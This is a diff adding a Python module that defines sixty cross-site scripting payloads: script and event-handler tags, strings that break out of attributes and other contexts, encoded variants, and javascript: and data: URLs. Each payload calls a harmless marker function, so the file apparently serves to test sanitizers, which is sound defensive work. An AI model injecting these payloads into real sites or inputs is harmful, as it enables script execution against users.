@@ -1,0 +1,73 @@
+"""Sixty texts that would run a script wherever one of them is taken for markup, an address or code."""
+
+_CALL = "ran()"
+_TAGS = (
+    "<script>{}</script>",
+    "<script src=data:,{}></script>",
+    "<img src=x onerror={}>",
+    "<img src=x onerror='{}'//",
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>",
+    "<body onload={}>",
+    "<iframe srcdoc='<script>parent.{}</script>'>",
+    "<iframe src=javascript:parent.{}>",
+    "<object data=javascript:{}>",
+    "<embed src=javascript:{}>",
+    "<a href=javascript:{}>x</a>",
+    "<form action=javascript:{}><button>",
+    "<input autofocus onfocus={}>",
+    "<details open ontoggle={}>",
+    "<video><source onerror={}></video>",
+    "<audio src=x onerror={}>",
+    "<marquee onstart={}>",
+    "<math><mtext></mtext><script>{}</script></math>",
+    "<style>@import 'javascript:{}';</style>",
+    "<link rel=stylesheet href=javascript:{}>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<base href=javascript:{}//>",
+    "<template><script>{}</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror={}>'>",
+    "<select onfocus={} autofocus>",
+    "<textarea onfocus={} autofocus>",
+    "<keygen autofocus onfocus={}>",
+    "<isindex action=javascript:{} type=image>",
+    "<button popovertarget=x onclick={}>",
+    "<div style='background:url(javascript:{})'>",
+    "<p onpointerenter={}>x</p>",
+    "<xss contenteditable onfocus={} tabindex=1 autofocus>",
+    "<dialog open onclose={}>",
+)
+_BROKEN_OUT = (
+    "'\"><script>{}</script>",
+    '"><img src=x onerror={}>',
+    "' onmouseover='{}",
+    '" autofocus onfocus="{}',
+    "</textarea><script>{}</script>",
+    "</title><script>{}</script>",
+    "</style><script>{}</script>",
+    "--><script>{}</script>",
+    "]]><script>{}</script>",
+    "`;{};`",
+    "${{{}}}",
+    "{{{{{}}}}}",
+    "'-{}-'",
+    "\\';{};//",
+    "</script><script>{}</script>",
+    "%3Cscript%3E{}%3C/script%3E",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "\u2028{}\u2029",
+    "\\u003cscript\\u003e{}",
+)
+_ADDRESSES = (
+    "javascript:{}",
+    "JaVaScRiPt:{}",
+    " javascript:{}",
+    "java\tscript:{}",
+    "data:text/html,<script>{}</script>",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
+)
+ADDRESSES = [one.replace("{}", _CALL) for one in _ADDRESSES]
+PAYLOADS = [
+    one.replace("{{", "{").replace("}}", "}").replace("{}", _CALL) for one in (*_TAGS, *_BROKEN_OUT)
+] + ADDRESSES
